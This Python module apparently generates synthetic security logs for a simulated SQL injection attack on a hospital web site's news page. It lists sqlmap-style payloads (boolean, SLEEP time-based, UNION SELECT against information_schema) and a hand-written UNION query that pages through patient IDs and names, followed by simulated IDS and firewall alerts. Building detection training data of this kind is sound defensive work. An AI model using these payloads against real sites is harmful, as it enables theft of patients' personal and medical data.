"""SQL typed into the web site's forms: first a tool trying everything, then a hand that knows."""

from khumkan_samples.attacks.stage import Act, Scenario, Stage
from khumkan_samples.entries import Entry
from khumkan_samples.facts.database import Connection, closed, opened, said
from khumkan_samples.facts.firewall import Session, outside, published
from khumkan_samples.facts.inspection import attack_seen
from khumkan_samples.facts.sensor import Wire, alerted
from khumkan_samples.facts.web import Visitor, request

TOOL = "sqlmap/1.8.4#stable (https://sqlmap.tool.example)"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PAGE = "GET /ข่าวประชาสัมพันธ์/อ่าน?id="
TRIES = (
    "1'",
    "1' AND 4821=4821-- -",
    "1' AND 4821=4822-- -",
    "1' OR 1=1-- -",
    "1' or '1'='1",
    "1' AND SLEEP(5)-- -",
    "1' AND (SELECT 7712 FROM (SELECT(SLEEP(5)))qxzr)-- -",
    "1' ORDER BY 8-- -",
    "-7' UNION SELECT NULL,NULL,NULL,NULL-- -",
    "-7' UNION ALL SELECT NULL,CONCAT(0x7171,version(),0x7171),NULL,NULL-- -",
    "-7' UNION SELECT NULL,table_name,NULL,NULL FROM information_schema.tables-- -",
    "-7' UNION SELECT NULL,column_name,NULL,NULL FROM information_schema.columns-- -",
)
NEWS = "SELECT id, title, body, posted_at FROM web_news WHERE id='"
BY_HAND = "-7' UNION SELECT hn,cid,fname,lname FROM patient LIMIT 500-- -"
RULE = (
    1000121,
    "LOCAL WEB UNION SELECT in request to hospital web site",
    "Web Application Attack",
    1,
)


def play(stage: Stage) -> Act:
    """Some forty requests; errors and slow answers first, rows of patients at the end."""
    dice, actor = stage.dice, stage.actor
    tool = Visitor(actor.ip, TOOL, version="1.1")
    act = Act(indicators={"ip": actor.ip, "user_agent": TOOL})
    seconds = 0.0
    for n in range(dice.whole(34, 48)):
        attempt = TRIES[n] if n < len(TRIES) else dice.pick(TRIES)
        status = 500 if attempt.count("'") % 2 and "--" not in attempt else 200
        size = dice.whole(300, 700) if status == 500 else dice.whole(9_000, 14_000)  # noqa: PLR2004 - server error
        act.entries.append(request(stage.after(seconds), tool, PAGE + attempt, status, size))
        seconds += 5.1 if "SLEEP" in attempt else dice.between(0.2, 1.2)
    hand = Visitor(actor.ip, BROWSER, version="1.1")
    for page in range(dice.whole(3, 6)):
        seconds += dice.between(8, 30)
        wish = PAGE + BY_HAND.replace("LIMIT 500", f"LIMIT {page * 500},500")
        size = dice.whole(60_000, 90_000)
        act.entries.append(request(stage.after(seconds), hand, wish, 200, size))
        act.entries += _at_database(stage, wish.removeprefix(PAGE), seconds)
    act.entries += _noticed(stage)
    return act


def _at_database(stage: Stage, injected: str, seconds: float) -> list[Entry]:
    web = Connection(
        stage.dice.whole(100_000, 9_999_999), "web_appt", stage.hospital.servers["web"].ip
    )
    sql = NEWS + injected
    now = stage.after(seconds - 0.2)
    return [opened(now, web), said(now + 9000, web, sql), closed(now + 90_000, web)]


def _noticed(stage: Stage) -> list[Entry]:
    hospital, actor, dice = stage.hospital, stage.actor, stage.dice
    proxy = hospital.servers["proxy"]
    source = outside(actor.ip, stage.port(), actor.country)
    target = published(hospital.firewall.web_ip, proxy, 443)
    wire = Wire(actor.ip, stage.port(), proxy.ip, 80)
    session = Session(source, target, "web")
    url = "/?id=-7%27%20UNION%20ALL%20SELECT%20NULL"
    return [
        attack_seen(stage.after(12), hospital, session, "HTTP.URI.SQL.Injection", url),
        alerted(stage.after(12.2), dice, wire, RULE),
        alerted(stage.after(31), dice, wire, RULE),
    ]


SCENARIO = Scenario("sql-injection", ("T1190", "T1595.002"), play)
